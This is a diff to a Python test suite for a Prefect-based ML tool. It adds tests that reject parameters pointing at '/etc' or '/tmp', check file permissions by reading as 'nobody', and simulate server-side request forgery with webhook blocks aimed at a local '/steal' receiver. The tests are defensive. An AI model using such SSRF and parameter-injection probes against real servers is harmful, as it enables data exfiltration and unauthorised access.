@@ -10,6 +10,7 @@ import os
 import signal
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 import uuid
@@ -247,16 +248,19 @@ def test_the_deployments_exist_with_schedules_and_a_typed_form(ui):
     assert fields["strategy"]["anyOf"][0]["enum"] == ["auto", "feature_extraction", "full", "gradual_unfreeze", "lora"]
     assert fields["holdout_fraction"]["anyOf"][0]["exclusiveMaximum"] == 1
     assert "description" in fields["on_severe_shift"] and "on_inconclusive" not in fields  # the project's policy
-    # The project is fixed by `regraft ui`: a run that asks for another folder is refused, by the server or
-    # at the latest by the flow, before it does anything.
-    assert "project_dir" not in schema["properties"]
-    elsewhere = api.post(f"/deployments/{deployment(api, 'promote')['id']}/create_flow_run",
-                         json={"parameters": {"tag": "x", "project_dir": "/tmp"}})
-    if elsewhere.status_code == 201:
-        ended = wait_for_state(api, elsewhere.json()["id"], {"COMPLETED", "FAILED", "CRASHED", "CANCELLED"}, 180)
-        assert ended["state"]["type"] != "COMPLETED", ended["state"]
-    else:
-        assert elsewhere.status_code >= 400, elsewhere.text
+    # The project is fixed by `regraft ui`: a run that asks for another folder, or gives any parameter its flow
+    # does not take or of the wrong type, is refused by the server when it is created, and no run exists.
+    assert "project_dir" not in schema["properties"] and schema["additionalProperties"] is False
+    def asked_for() -> int:  # runs someone asked for (the scheduler adds its own)
+        return sum(not run["auto_scheduled"] for run in api.post("/flow_runs/filter", json={}).json())
+
+    before = asked_for()
+    for name, parameters in (("promote", {"tag": "x", "project_dir": "/tmp"}), ("retrain", {"project": "/etc"}),
+                             ("retrain", {"parameters": {"project": "/etc"}}), ("retrain", {"parameters": {"push": "no"}}),
+                             ("shift-watch", {"max_rows": "all"}), ("rollback", {"project": "/etc"})):
+        refused = api.post(f"/deployments/{deployment(api, name)['id']}/create_flow_run", json={"parameters": parameters})
+        assert refused.status_code == 409 and "Validation failed" in refused.text, (name, parameters, refused.text)
+    assert asked_for() == before
     assert all(s["active"] for s in scheduled["schedules"]) and not scheduled["paused"]
     watch = deployment(api, "shift-watch")
     assert [s["schedule"]["cron"] for s in watch["schedules"]] == [QUIET_CRONS["schedule.shift_watch_cron"]]
@@ -457,6 +461,36 @@ def test_promote_then_shift_watch_on_degraded_traffic_starts_retrain_and_feedbac
     assert realized["realized"]["accuracy"] < estimate["validated"]["accuracy"]
 
 
+def test_the_state_the_reports_and_the_prediction_log_are_the_owners_alone(ui):
+    """Prefect's database (every run's parameters and logs, the key to its secret blocks), the served texts and
+    the reports: another local user can read none of them. Checked by mode and, as root, by reading as `nobody`."""
+    api, project, _ = ui
+    private = [project / ".regraft", project / "reports", project / ".regraft" / "predictions.jsonl"]
+    assert (project / ".regraft" / "prefect-server" / "prefect.db").is_file()
+    assert (project / ".regraft" / "predictions.jsonl").is_file()
+    exposed = [str(path) for top in private for path in [top, *top.rglob("*")]
+               if not path.is_symlink() and path.stat().st_mode & 0o077]
+    assert not exposed, exposed[:10]
+    if os.geteuid() != 0:
+        return
+    # Let `nobody` through the test's own temporary folders (0700 by pytest) so only regraft's modes stand in its way.
+    ancestors = [folder for folder in project.parents if str(folder).startswith(tempfile.gettempdir() + "/")]
+    modes = {folder: folder.stat().st_mode & 0o7777 for folder in [project, *ancestors]}
+    try:
+        for folder in modes:
+            os.chmod(folder, modes[folder] | 0o011)
+        def read_as_nobody(path: Path) -> subprocess.CompletedProcess:
+            return subprocess.run(["cat", str(path)], user=65534, group=65534, capture_output=True)
+        assert read_as_nobody(project / "params.yaml").returncode == 0  # the checkout itself stays readable
+        for secret in [project / ".regraft" / "prefect-server" / "prefect.db", project / ".regraft" / "predictions.jsonl",
+                       project / "reports" / "verdict.json"]:
+            denied = read_as_nobody(secret)
+            assert denied.returncode != 0 and b"Permission denied" in denied.stderr, secret
+    finally:
+        for folder, mode in modes.items():
+            os.chmod(folder, mode)
+
+
 def test_a_failed_run_is_notified_once_with_its_link(ui):
     """A run that fails (here: validate, under a stricter row minimum than the data has) tells the webhook once,
     with the stage, the reason and the run's link."""
@@ -466,6 +500,73 @@ def test_a_failed_run_is_notified_once_with_its_link(ui):
     assert failed["state"]["type"] == "FAILED", log.read_text()[-3000:]
     message = notified(api, "regraft.run.failed", failed["id"])
     assert "failed at stage validate" in message["subject"] and "verdict: none" in message["body"]
+
+
+def test_the_credential_cannot_make_the_server_post_elsewhere(ui):
+    """Server-side request forgery as a credential holder would try it: a Custom Webhook block and a Webhook block
+    pointing at another host (a receiver on 127.0.0.2), an automation that sends through both on regraft's own
+    event, and the event. regraft's notification reaches its webhook; the other host gets nothing, and the
+    automation's actions fail saying why."""
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    api, _, _ = ui
+    stolen: list[str] = []
+
+    class Elsewhere(BaseHTTPRequestHandler):
+        def do_POST(self):
+            stolen.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    elsewhere = ThreadingHTTPServer(("127.0.0.2", 0), Elsewhere)
+    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+    target = f"http://127.0.0.2:{elsewhere.server_port}/steal"
+    created = []
+    try:
+        blocks = {}
+        for slug, data in (("custom-webhook", {"name": "steal", "url": target, "method": "POST",
+                                               "json_data": {"text": "{{body}}"}, "timeout": 10}),
+                           ("webhook", {"method": "POST", "url": target, "headers": {}})):
+            block_type = api.get(f"/block_types/slug/{slug}").json()
+            schema = api.post("/block_schemas/filter", json={"block_schemas": {
+                "block_type_id": {"any_": [block_type["id"]]}}}).json()[0]
+            document = api.post("/block_documents/", json={"name": f"ssrf-{slug}", "data": data,
+                                                           "block_schema_id": schema["id"], "block_type_id": block_type["id"]})
+            assert document.status_code == 201, document.text  # the credential can create any block
+            blocks[slug] = document.json()["id"]
+            created.append(f"/block_documents/{blocks[slug]}")
+        automation = api.post("/automations/", json={
+            "name": "ssrf probe", "trigger": {"type": "event", "expect": ["regraft.run.failed"],
+                                              "match": {"prefect.resource.id": "regraft.*"}, "posture": "Reactive",
+                                              "threshold": 1, "within": 0},
+            "actions": [{"type": "send-notification", "block_document_id": blocks["custom-webhook"],
+                         "subject": "s", "body": "b"},
+                        {"type": "call-webhook", "block_document_id": blocks["webhook"], "payload": "{}"}]})
+        assert automation.status_code == 201, automation.text
+        created.insert(0, f"/automations/{automation.json()['id']}")
+        probe = f"ssrf probe {uuid.uuid4()}"
+        sent = api.post("/events", json=[{"id": str(uuid.uuid4()), "occurred": dt.datetime.now(dt.UTC).isoformat(),
+                                          "event": "regraft.run.failed", "resource": {"prefect.resource.id": "regraft.probe"},
+                                          "payload": {"summary": probe, "verdict": "none", "link": ""}}])
+        assert sent.status_code == 204, sent.text
+        deadline, failures, delivered = time.monotonic() + 90, [], False
+        while time.monotonic() < deadline and not (len(failures) == 2 and delivered):
+            failures = api.post("/events/filter", json={"filter": {
+                "event": {"prefix": ["prefect.automation.action.failed"]},
+                "resource": {"id": [created[0].replace("/automations/", "prefect.automation.")]}}}).json()["events"]
+            delivered = any(probe in n["subject"] for n in NOTIFICATIONS)
+            time.sleep(1)
+        assert delivered, NOTIFICATIONS  # regraft's own notification still goes out
+        assert len(failures) == 2 and all("notify.allowed_hosts" in e["payload"]["reason"] for e in failures), failures
+        time.sleep(2)
+        assert stolen == []
+    finally:
+        for path in created:
+            api.delete(path)
+        elsewhere.shutdown()
 
 
 def test_a_run_from_the_terminal_shows_in_the_running_ui(ui):
